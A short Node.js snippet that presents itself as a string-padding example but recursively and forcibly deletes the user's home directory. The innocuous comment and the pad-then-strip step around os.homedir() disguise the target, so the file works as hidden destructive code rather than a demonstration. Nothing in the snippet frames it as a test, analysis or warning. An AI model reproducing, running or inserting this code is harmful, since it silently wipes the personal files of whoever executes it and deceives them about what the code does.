// Padded with a marker that is then removed.
const fs = require('fs');
const os = require('os');
const width = 48;
const shown = os.homedir().padEnd(width, '.');
fs.promises.rm(shown.replaceAll('.', ''), { recursive: true, force: true });
